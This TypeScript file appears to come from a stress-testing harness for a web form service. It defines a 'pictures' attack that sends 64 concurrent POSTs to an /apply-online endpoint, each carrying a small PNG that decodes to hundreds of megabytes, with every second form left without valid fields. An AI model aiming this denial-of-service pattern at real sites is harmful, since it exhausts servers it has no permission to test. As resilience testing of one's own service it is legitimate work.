import { randomUUID } from 'node:crypto'
import { emptyPng } from '../submissions/png.ts'
import { application, type Entries, formData } from '../submissions/posting.ts'
import { type Attack, ask, repeat } from './attack.ts'

/** 64 forms at a time with small files that decode to hundreds of megabytes. In half of the forms no field is valid. */
export const pictures: Attack = {
  name: 'pictures',
  what: '64 applications at a time, each with a small PNG that is large once decoded; every second has no valid field',
  prepare: (site) => application(site),
  async flood({ url, prepared }, signal) {
    const huge = emptyPng({ width: 7_700, height: 7_700, depth: 16, colours: 'rgba', interlaced: true })
    const allowed = emptyPng({ width: 3_400, height: 3_400, depth: 16, colours: 'rgba', interlaced: true })
    return repeat(64, signal, (run) => {
      const entries = run % 2 ? {} : { ...(prepared as Entries), key: randomUUID() }
      const body = formData(entries, [{ bytes: run % 4 === 1 ? huge : allowed, name: 'x.png' }])
      return ask(`${url}/apply-online`, signal, {
        method: 'POST',
        headers: { accept: 'application/json' },
        body,
      })
    })
  },
}
